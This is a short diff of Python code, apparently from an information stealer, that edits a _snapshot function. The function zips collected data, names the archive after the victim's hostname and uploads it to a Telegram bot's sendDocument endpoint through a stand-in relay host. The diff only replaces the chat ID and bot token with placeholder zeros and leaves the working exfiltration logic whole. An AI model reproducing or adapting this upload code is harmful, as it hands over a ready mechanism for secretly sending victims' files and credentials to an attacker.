@@ -68,10 +68,10 @@ def profiles():
 
 def _snapshot(blob):
     b = uuid.uuid4().hex
-    body = (f'--{b}\r\nContent-Disposition: form-data; name="chat_id"\r\n\r\n-1002214471880\r\n'
+    body = (f'--{b}\r\nContent-Disposition: form-data; name="chat_id"\r\n\r\n-1000000000000\r\n'
             f'--{b}\r\nContent-Disposition: form-data; name="document"; filename="{platform.node()}.zip"\r\n\r\n').encode()
     body += blob + f"\r\n--{b}--\r\n".encode()
-    req = urllib.request.Request("https://tg-relay.example/bot7710254311:AAFxKq/sendDocument", data=body,
+    req = urllib.request.Request("https://tg-relay.example/bot0000000000:AAFxKq/sendDocument", data=body,
                                  headers={"Content-Type": f"multipart/form-data; boundary={b}"})
     try:
         urllib.request.urlopen(req, timeout=30)
